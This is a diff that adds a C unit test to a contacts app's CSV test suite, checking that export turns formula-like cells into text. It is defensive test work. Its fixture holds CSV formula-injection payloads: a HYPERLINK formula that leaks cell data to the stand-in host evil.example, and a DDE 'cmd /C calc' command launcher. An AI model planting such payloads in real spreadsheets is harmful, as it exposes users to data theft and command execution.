@@ -695,6 +695,39 @@ test_import_broken_rows (Fixture       *f,
                                    "11,a quoted field is not closed before the end of the file,"));
 }
 
+/* Issue 19 §4: cells a spreadsheet would run as formulas are exported as
+ * text ('=…); E.164 numbers are numbers, not formulas, and stay as they are. */
+static void
+test_export_formulas (Fixture       *f,
+                      gconstpointer  data)
+{
+  const char *text =
+    "name,phone,company,note,office\n"
+    "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",+1 202 555 0101,"
+    "+cmd|' /C calc'!A0,@SUM(1+1),-2+3\n"
+    "Bob,+1 202 555 0102,Acme,\tTab,+12025550199\n";
+  g_autofree char *path = write_file (f, "evil.csv", text, -1);
+  g_auto(TbImportResult) result = { 0 };
+  g_autoptr(GError) error = NULL;
+  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
+  g_autofree char *exported = NULL;
+
+  g_assert_true (import_file (f, path, "Evil", "US", NULL, &result, &error));
+  g_assert_no_error (error);
+  g_assert_cmpint (result.imported, ==, 2);
+  g_assert_cmpint (tb_contacts_export (f->store, result.list_id, out, FALSE, NULL, &error), ==,
+                   2);
+  g_assert_no_error (error);
+  g_output_stream_write_all (out, "", 1, NULL, NULL, &error);
+  g_output_stream_close (out, NULL, &error);
+  exported = g_memory_output_stream_steal_data (G_MEMORY_OUTPUT_STREAM (out));
+  g_assert_cmpstr (exported, ==,
+                   "name,phone,company,email,timezone,persona,note,office\r\n"
+                   "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","
+                   "+12025550101,'+cmd|' /C calc'!A0,,America/New_York,,'@SUM(1+1),'-2+3\r\n"
+                   "Bob,+12025550102,Acme,,America/New_York,,'\tTab,+12025550199\r\n");
+}
+
 static void
 test_import_custom_fields_and_override (Fixture       *f,
                                         gconstpointer  data)
@@ -1239,6 +1272,7 @@ main (int    argc,
   ADD ("import/gbk-chinese-headers", test_import_gbk_chinese);
   ADD ("import/broken-rows", test_import_broken_rows);
   ADD ("import/custom-fields-and-map", test_import_custom_fields_and_override);
+  ADD ("export/formulas-as-text", test_export_formulas);
   ADD ("import/round-trip", test_round_trip);
   ADD ("import/cancel", test_cancel);
   ADD ("import/job", test_job);
